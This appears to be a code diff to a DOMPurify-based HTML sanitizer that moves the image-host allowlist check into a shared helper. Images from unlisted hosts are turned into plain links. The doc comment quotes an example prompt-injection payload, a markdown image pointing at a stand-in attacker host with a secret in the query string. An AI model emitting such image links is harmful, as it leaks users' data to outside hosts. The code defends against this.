@@ -1,10 +1,12 @@
 import createDOMPurify, { type Config, type DOMPurify } from 'dompurify';
+import { imageAllowed } from '../safe-url.js';
 
 export interface SanitizeOptions {
   /**
-   * Hosts (exact hostnames, e.g. `images.example.com`) images may load from. Without it every `https:`/`http:`
-   * image loads. With it, an image from another host becomes a plain link to it (labelled with its alt text),
-   * so a prompt-injected `![](https://evil.example/?q=secret)` cannot leak data without a user's click.
+   * Hosts images may load from besides the page's own (`imageAllowed`: `host`, `host:port` or `*`). Without it
+   * every `https:`/`http:` image loads. With it, an image from another host becomes a plain link to it
+   * (labelled with its alt text), so a prompt-injected `![](https://evil.example/?q=secret)` cannot leak data
+   * without a user's click. The elements always give it.
    */
   imageHosts?: readonly string[];
 }
@@ -54,7 +56,7 @@ function instance(): DOMPurify {
       node.setAttribute('rel', 'noopener noreferrer');
     } else if (node.nodeName === 'IMG' && imageHosts) {
       const src = node.getAttribute('src');
-      if (src && !imageHosts.includes(hostOf(src))) {
+      if (src && !imageAllowed(src, imageHosts)) {
         // The link is inserted where the image was, so the sanitizer visits it next (and adds target and rel).
         const link = node.ownerDocument.createElement('a');
         link.href = src;
@@ -67,14 +69,10 @@ function instance(): DOMPurify {
   return purify;
 }
 
-function hostOf(url: string): string {
-  return URL.canParse(url) ? new URL(url).hostname : '';
-}
-
 /** Runs `sanitize` with the image allowlist visible to the hooks (sanitizing is synchronous). */
 function withOptions<T>(options: SanitizeOptions, sanitize: (purify: DOMPurify) => T): T {
   const purify = instance();
-  imageHosts = options.imageHosts?.map((host) => host.toLowerCase());
+  imageHosts = options.imageHosts;
   try {
     return sanitize(purify);
   } finally {
